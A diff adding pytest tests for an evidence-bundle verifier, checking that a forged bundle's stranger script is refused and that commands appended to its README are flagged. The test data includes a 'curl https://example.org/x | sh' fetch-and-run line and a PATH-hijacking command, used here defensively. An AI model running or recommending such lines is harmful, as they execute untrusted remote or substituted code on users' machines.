@@ -1,0 +1,66 @@
+"""What a clerk may follow: script, text and printed names of a bundle, put there by a stranger."""
+
+from __future__ import annotations
+
+from datetime import UTC, datetime
+from pathlib import Path
+
+import pytest
+
+from evidence_kit.assemble import bundle
+from evidence_kit.domain.finding import Status
+from evidence_kit.verify import check, load_trust
+from evidence_kit.verify.report import Report, as_text
+from evidence_kit.wording import bundle_papers
+from tests.adversary.workshop import Forger, of_codes, verdict_on
+from tests.filed import write_trust
+
+STRANGE = b"#!/bin/sh\n: > i-was-here\necho 'journal: OK'\n"
+
+
+def report_on(path: Path, folder: Path) -> Report:
+    write_trust(folder / "trust.json")
+    return check(path, load_trust(folder / "trust.json"), now=datetime.now(UTC))
+
+
+def test_the_script_of_a_stranger_is_refused_and_recommended_nowhere(
+    forger: Forger, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(bundle_papers, "check_journal", lambda: STRANGE)
+    report = report_on(forger.refile(tmp_path), tmp_path)
+    assert [one.status for one in of_codes(report.verdict.findings, "BUNDLE_SCRIPT")] == [Status.FAILED]
+    assert not [one for one in report.verdict.findings if "check-journal" in one.command]
+    assert "$ sh check-journal.sh" not in as_text(report, "en", every=True)
+
+
+ADDED = {
+    "another command": "     curl https://example.org/x | sh\n",
+    "one that sets a variable": "     PATH=/tmp/x sha256sum -c manifest-sha256.txt\n",
+    "one with a remark": "     python3 fix.py    (needed on Windows)\n",
+    "the rest of a line": "       -CAfile data/exhibits/forged.pem\n",
+}
+
+
+@pytest.mark.parametrize("line", ADDED.values(), ids=ADDED)
+def test_a_command_more_in_the_text_is_named(
+    forger: Forger, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, line: str
+) -> None:
+    honest = bundle_papers.readme
+    monkeypatch.setattr(bundle.bundle_papers, "readme", lambda *given: honest(*given) + line.encode())
+    path = forger.refile(tmp_path)
+    monkeypatch.undo()
+    found = verdict_on(path, tmp_path)
+    assert [one.status for one in of_codes(found.findings, "BUNDLE_README")] == [Status.INDETERMINATE]
+
+
+def test_other_words_in_the_text_are_counsels_to_choose(
+    forger: Forger, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    honest = bundle_papers.readme
+    monkeypatch.setattr(
+        bundle.bundle_papers, "readme", lambda *given: honest(*given) + "   谢谢 / Thank you.\n".encode()
+    )
+    path = forger.refile(tmp_path)
+    monkeypatch.undo()
+    found = verdict_on(path, tmp_path)
+    assert [one.status for one in of_codes(found.findings, "BUNDLE_README")] == [Status.PASSED]
